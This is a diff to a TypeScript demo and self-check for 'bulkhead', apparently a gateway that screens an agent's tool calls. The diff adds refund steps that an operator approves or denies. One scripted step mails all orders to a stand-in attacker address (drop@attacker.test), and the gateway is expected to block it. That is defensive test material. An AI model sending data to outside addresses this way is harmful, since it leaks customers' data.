@@ -5,7 +5,7 @@
  * exits 1 if bulkhead decided anything else, so it doubles as a self-check.
  */
 import { randomBytes } from 'node:crypto';
-import { createWriteStream, mkdirSync } from 'node:fs';
+import { createWriteStream, mkdirSync, rmSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
@@ -26,6 +26,8 @@ interface Step {
   tool: string;
   args: Record<string, unknown>;
   expect: 'allow' | string;
+  /** The demo plays the operator: it approves or denies the held call. */
+  operator?: 'approve' | 'deny';
 }
 
 const STEPS: Step[] = [
@@ -91,6 +93,20 @@ const STEPS: Step[] = [
     expect: 'tool_not_in_scope',
   },
   {
+    title: 'refund an order (held for a human)',
+    tool: 'orders__refund_order',
+    args: { order_id: 'ORD-000042', amount_cents: 1500, reason: 'arrived damaged' },
+    expect: 'allow',
+    operator: 'approve',
+  },
+  {
+    title: 'refund it again, bigger',
+    tool: 'orders__refund_order',
+    args: { order_id: 'ORD-000042', amount_cents: 45000, reason: 'customer insisted' },
+    expect: 'approval_denied',
+    operator: 'deny',
+  },
+  {
     title: 'mail an outside address',
     tool: 'mail__send_email',
     args: { to: 'drop@attacker.test', subject: 'orders', body: 'all of them' },
@@ -115,6 +131,9 @@ export function register(program: Command): void {
 async function runDemo(port: number): Promise<number> {
   const loaded = loadPolicyFile(EXAMPLE_POLICY);
   mkdirSync(join(loaded.dir, '.bulkhead'), { recursive: true });
+  // A fresh orders database each time, so the story reads the same on every run.
+  for (const suffix of ['', '-wal', '-shm'])
+    rmSync(join(loaded.dir, '.bulkhead', `orders.db${suffix}`), { force: true });
   // Throwaway credentials for the example upstreams: each reaches only its own server.
   const env = {
     ORDERS_API_TOKEN: `orders-${randomBytes(12).toString('hex')}`,
@@ -155,14 +174,16 @@ async function script(gateway: Gateway): Promise<number> {
     let n = 0;
     for (const step of STEPS) {
       n++;
-      const result = (await client.callTool({ name: step.tool, arguments: step.args })) as CallToolResult;
+      line(
+        `${String(n).padStart(2)}. ${step.title.padEnd(34)} ${style.dim(`${step.tool} ${short(JSON.stringify(step.args), 60)}`)}`,
+      );
+      const pending = client.callTool({ name: step.tool, arguments: step.args });
+      if (step.operator) await playOperator(gateway, run.id, step.operator);
+      const result = (await pending) as CallToolResult;
       const code = (result._meta?.['bulkhead/denial'] as { code?: string } | undefined)?.code;
       const decided = code ?? 'allow';
       const ok = decided === step.expect;
       if (!ok) surprises++;
-      line(
-        `${String(n).padStart(2)}. ${step.title.padEnd(34)} ${style.dim(`${step.tool} ${short(JSON.stringify(step.args), 60)}`)}`,
-      );
       if (code) {
         const message = firstText(result).replace(/^Denied by bulkhead \([a-z_]+\): /, '');
         line(
@@ -190,6 +211,28 @@ async function script(gateway: Gateway): Promise<number> {
     return EXIT.failed;
   }
   return EXIT.ok;
+}
+
+/** Waits for the held call to appear, then decides it as an operator would from the dashboard or CLI. */
+async function playOperator(gateway: Gateway, runId: string, decision: 'approve' | 'deny'): Promise<void> {
+  for (let i = 0; i < 400; i++) {
+    const [held] = await gateway.store.approvals.list({ state: 'pending', runId });
+    if (held) {
+      line(
+        style.dim(
+          `    … held as ${held.id}; an operator ${decision === 'approve' ? 'approves' : 'denies'} it`,
+        ),
+      );
+      await gateway.approvals.decide(held.id, {
+        operator: 'demo',
+        decision,
+        reason: decision === 'approve' ? 'checked the photos' : 'over the refund limit without a supervisor',
+        at: Date.now(),
+      });
+      return;
+    }
+    await new Promise((r) => setTimeout(r, 25));
+  }
 }
 
 function describeTool(
